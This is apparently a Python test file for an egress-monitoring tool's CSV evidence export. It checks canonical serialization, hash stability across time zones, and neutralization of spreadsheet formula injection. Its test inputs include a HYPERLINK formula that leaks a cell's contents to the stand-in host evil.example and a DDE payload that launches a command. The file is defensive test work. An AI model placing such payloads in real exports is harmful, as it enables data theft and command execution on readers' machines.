"""Evidence exports: one canonical serialization, so the same rows always hash the same."""

from __future__ import annotations

import csv
import hashlib
import io
from datetime import UTC, datetime, timedelta, timezone

import pytest

from egress_guard.requestlog.evidence import cell, digest, to_csv
from egress_guard.requestlog.store import COLUMN_NAMES

ROW = {
    "ts": datetime(2026, 11, 21, 8, 30, 0, 123000),  # naive UTC, as the store returns it
    "user": "zhang.wei",
    "host": "pan.baidu.com",
    "path": '/upload,"x"\nline',
    "marker_levels": ["national_secret", "trade_secret"],
    "tls_intercepted": True,
    "upload_bytes": 1048576,
}


def test_rows_serialize_canonically():
    data = to_csv([ROW])
    assert data.startswith(",".join(COLUMN_NAMES).encode() + b"\r\n")
    (header, row) = list(csv.reader(io.StringIO(data.decode(), newline="")))
    got = dict(zip(header, row, strict=True))
    assert got["ts"] == "2026-11-21T08:30:00.123Z"
    assert got["path"] == '/upload,"x"\nline'  # quoted, not split
    assert got["marker_levels"] == "national_secret;trade_secret"
    assert got["tls_intercepted"] == "true" and got["upload_bytes"] == "1048576"
    assert got["request_id"] == ""  # absent columns stay in place, empty


def test_the_same_rows_hash_the_same_whatever_the_time_zone_object():
    beijing = timezone(timedelta(hours=8))
    aware = dict(ROW, ts=datetime(2026, 11, 21, 16, 30, 0, 123000, tzinfo=beijing))
    utc = dict(ROW, ts=datetime(2026, 11, 21, 8, 30, 0, 123000, tzinfo=UTC))
    assert digest(to_csv([ROW])) == digest(to_csv([aware])) == digest(to_csv([utc]))
    assert digest(to_csv([ROW])) != digest(to_csv([dict(ROW, user="li.na")]))


# What a spreadsheet would run as a formula (OWASP "CSV injection"), and the full-width forms
# some spreadsheets fold to ASCII.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "＝1",
    "＋1",
    "－1",
    "＠SUM(1)",
]


def parsed(data: bytes) -> dict[str, str]:
    (header, row) = list(csv.reader(io.StringIO(data.decode(), newline="")))
    return dict(zip(header, row, strict=True))


@pytest.mark.parametrize("column", ["user", "path", "user_agent", "error"])
@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_is_neutralized_in_the_hashed_bytes(column, value):
    data = to_csv([dict(ROW, **{column: value})])
    assert parsed(data)[column] == "'" + value
    # The bytes handed out and hashed are those of the neutralized text, quote and all.
    assert data == to_csv([dict(ROW, **{column: "'" + value})])
    assert digest(data) == hashlib.sha256(data).hexdigest()


def test_list_cells_are_text_and_neutralized_too():
    data = to_csv([dict(ROW, marker_ids=["=cmd|' /C calc'!A0", "x"])])
    assert parsed(data)["marker_ids"] == "'=cmd|' /C calc'!A0;x"


def test_numbers_times_and_ordinary_text_are_left_alone():
    row = dict(
        ROW,
        status=-1,  # never negative in the store, but a number is not a formula
        duration_ms=-2.5,
        user="a=b",
        error="",
        query="q='x'",
    )
    got = parsed(to_csv([row]))
    assert got["status"] == "-1" and got["duration_ms"] == "-2.5"
    assert got["user"] == "a=b" and got["error"] == "" and got["query"] == "q='x'"
    assert got["ts"] == "2026-11-21T08:30:00.123Z" and got["tls_intercepted"] == "true"


def test_a_normal_row_is_byte_for_byte_what_it_was():
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(COLUMN_NAMES)
    writer.writerow([cell(ROW.get(c, "")) for c in COLUMN_NAMES])
    assert to_csv([ROW]) == out.getvalue().encode("utf-8")
